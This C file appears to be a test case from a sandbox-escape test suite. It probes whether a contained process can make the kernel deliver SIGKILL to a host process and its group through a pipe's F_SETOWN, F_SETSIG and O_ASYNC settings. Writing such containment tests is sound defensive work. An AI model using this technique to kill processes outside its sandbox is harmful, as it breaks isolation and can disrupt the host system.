/* class: processes
 * what: makes the kernel send SIGKILL to init and to a host process as owner of a pipe's signal (F_SETOWN, F_SETSIG, O_ASYNC)
 * outside: victim_alive
 */
#include "attack.h"

#define SETSIG 10
int main(void)
{
    pid_t victim = param_pid("victim_pid");
    int p[2];
    if (pipe(p) < 0)
        contained("pipe=%s", errname(errno));
    for (int i = 0; i < 2; i++) {
        pid_t pid = i ? victim : -victim;
        if (victim < 2)
            break;
        if (fcntl(p[0], F_SETOWN, pid) == 0 && fcntl(p[0], SETSIG, SIGKILL) == 0 &&
            fcntl(p[0], F_SETFL, O_ASYNC | O_NONBLOCK) == 0) {
            (void)!write(p[1], "x", 1);
            sleep_ms(100);
            if (kill(victim, 0) == 0 || errno == EPERM)
                escaped("F_SETOWN accepts host process %d", (int)victim);
        }
        refused("F_SETOWN", errno);
    }
    verdict();
}
